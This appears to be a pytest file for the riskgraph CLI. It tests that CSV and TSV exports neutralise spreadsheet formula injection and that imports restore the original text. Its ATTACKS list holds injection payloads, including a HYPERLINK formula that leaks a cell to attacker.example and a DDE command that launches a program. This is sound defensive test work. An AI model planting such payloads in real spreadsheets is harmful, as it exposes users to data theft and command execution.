"""CSV for spreadsheets never holds a live formula; the exact SPARQL CSV is there on request.

Every CSV riskgraph writes for people (``export -o x.csv``, ``query run -o q.csv``,
``list --format csv``, the SoA and gap CSVs) puts a quote before a cell that a spreadsheet would
run, and the template import takes it off again, so text round-trips exactly.
"""

from __future__ import annotations

import csv
import io
import sys
from pathlib import Path
from unittest import mock

import pyoxigraph as ox
import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from riskgraph.cli import main
from riskgraph.model.entities import AISystem, Entity, Risk
from riskgraph.model.repository import Repository
from riskgraph.register import Register, init_register
from riskgraph.results import write_result
from riskgraph.results.formulas import is_formula_like, neutralise, restore
from riskgraph.results.registry import format_for_path, get_format
from riskgraph.store.base import SelectResult, commit

ATTACKS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    '"=1+1',
    "'=1+1",
    "=1+1\n=2+2",
]
HARMLESS = ["", "hello", "a=b", "-5", "+2.5e3", "'quoted", "R-001", "2026-03-31", "0.75"]


@pytest.mark.parametrize("text", ATTACKS)
def test_an_attack_gets_the_text_marker_and_comes_back(text: str) -> None:
    assert is_formula_like(text)
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_and_numbers_are_left_alone(text: str) -> None:
    assert neutralise(text) == text
    assert restore(text) == text


@given(st.text())
def test_restore_undoes_neutralise_for_any_text(text: str) -> None:
    written = neutralise(text)
    assert restore(written) == text
    if is_formula_like(text):
        assert written.startswith("'")


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def _attack_rows() -> SelectResult:
    rows = [{"n": ox.Literal(str(i)), "text": ox.Literal(t)} for i, t in enumerate(ATTACKS)]
    return SelectResult(["n", "text"], iter(rows))


def test_query_csv_is_safe_and_sparql_csv_is_exact() -> None:
    safe, exact = io.BytesIO(), io.BytesIO()
    write_result(_attack_rows(), get_format("csv"), safe)
    write_result(_attack_rows(), get_format("sparql_csv"), exact)
    assert [row[1] for row in _cells(safe.getvalue())[1:]] == ["'" + t for t in ATTACKS]
    assert [row[1] for row in _cells(exact.getvalue())[1:]] == ATTACKS
    # a .csv file name means the safe one; the exact one is asked for by name
    assert format_for_path("q.csv").name == "csv"


def test_query_tsv_is_neutralised_exactly_like_csv() -> None:
    """Each TSV literal holds what the CSV cell holds (the quote inside the literal's quotes),
    and stays valid SPARQL TSV: parsed back, the values are the CSV cells."""
    csv_out, tsv_out = io.BytesIO(), io.BytesIO()
    write_result(_attack_rows(), get_format("csv"), csv_out)
    write_result(_attack_rows(), get_format("tsv"), tsv_out)
    csv_cells = [row[1] for row in _cells(csv_out.getvalue())[1:]]
    parsed = ox.parse_query_results(tsv_out.getvalue(), ox.QueryResultsFormat.TSV)
    tsv_values = [solution["text"].value for solution in parsed]  # type: ignore[union-attr]
    assert tsv_values == csv_cells == ["'" + t for t in ATTACKS]
    lines = tsv_out.getvalue().decode("utf-8").splitlines()
    assert (
        lines[1]
        == '"0"\t"\'=HYPERLINK(\\"http://attacker.example/?leak=\\"&A1,\\"Click for details\\")"'
    )
    harmless = SelectResult(["text"], iter([{"text": ox.Literal(t)} for t in HARMLESS]))
    out = io.BytesIO()
    write_result(harmless, get_format("tsv"), out)
    again = ox.parse_query_results(out.getvalue(), ox.QueryResultsFormat.TSV)
    assert [solution["text"].value for solution in again] == HARMLESS  # type: ignore[union-attr]


# --- the CLI, end to end ---------------------------------------------------------------------

runner = CliRunner()


def _run(*args: str) -> tuple[int, bytes, str]:
    with (
        runner.isolation() as (out, err, _),
        mock.patch.object(sys, "argv", ["riskgraph", *args]),
    ):
        try:
            main()
            code = 0
        except SystemExit as exc:
            code = exc.code if isinstance(exc.code, int) else 1
        sys.stdout.flush()
        return code, out.getvalue(), err.getvalue().decode()


def _register(folder: Path, entities: list[Entity]) -> Register:
    register = init_register(folder)
    with register.writer() as store:
        commit(store, Repository(store, register.base_iri).plan_upsert(entities).changes)
    return register


SYSTEM = AISystem(id="SYS-1", title="Screening")


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.delenv("RISKGRAPH_REGISTER", raising=False)
    risks = [
        Risk(id=f"R-{n:03d}", title=text, affects=["SYS-1"], likelihood=2, severity=2)
        for n, text in enumerate(ATTACKS, start=1)
    ]
    _register(tmp_path / "reg", [SYSTEM, *risks])
    return tmp_path / "reg"


def _titles(folder: Path) -> dict[str, str]:
    register = Register.open(folder)
    with register.reader() as store:
        risks, problems = Repository(store, register.base_iri).all(Risk)
    assert problems == []
    return {risk.id: risk.title for risk in risks}


def test_export_csv_neutralises_and_import_restores(folder: Path, tmp_path: Path) -> None:
    out = tmp_path / "risks.csv"
    code, _, err = _run("export", "-o", str(out), "--kind", "risk", "-r", str(folder))
    assert code == 0, err
    rows = _cells(out.read_bytes())
    header = rows[1]
    titles = [row[header.index("title")] for row in rows[2:]]
    assert sorted(titles) == sorted("'" + t for t in _titles(folder).values())

    again = _register(tmp_path / "again", [SYSTEM])
    code, _, err = _run("import", str(out), "-r", str(again.folder))
    assert code == 0, err
    # the template import strips spaces around a cell, as it always has
    assert _titles(tmp_path / "again") == {k: v.strip() for k, v in _titles(folder).items()}


def test_query_run_to_csv_neutralises(folder: Path, tmp_path: Path) -> None:
    out = tmp_path / "q.csv"
    query = (
        "SELECT ?id ?title WHERE { ?r a rg:Risk ; dcterms:identifier ?id ; dcterms:title ?title }"
    )
    code, _, err = _run("query", "run", "-e", query, "-o", str(out), "-r", str(folder))
    assert code == 0, err
    titles = [row[1] for row in _cells(out.read_bytes())[1:]]
    assert sorted(titles) == sorted("'" + t for t in _titles(folder).values())


def test_list_as_csv_neutralises(folder: Path) -> None:
    code, out, err = _run("list", "risks", "--format", "csv", "-r", str(folder))
    assert code == 0, err
    rows = _cells(out)
    column = rows[0].index("title")
    titles = [row[column] for row in rows[1:]]
    assert sorted(titles) == sorted("'" + t for t in _titles(folder).values())
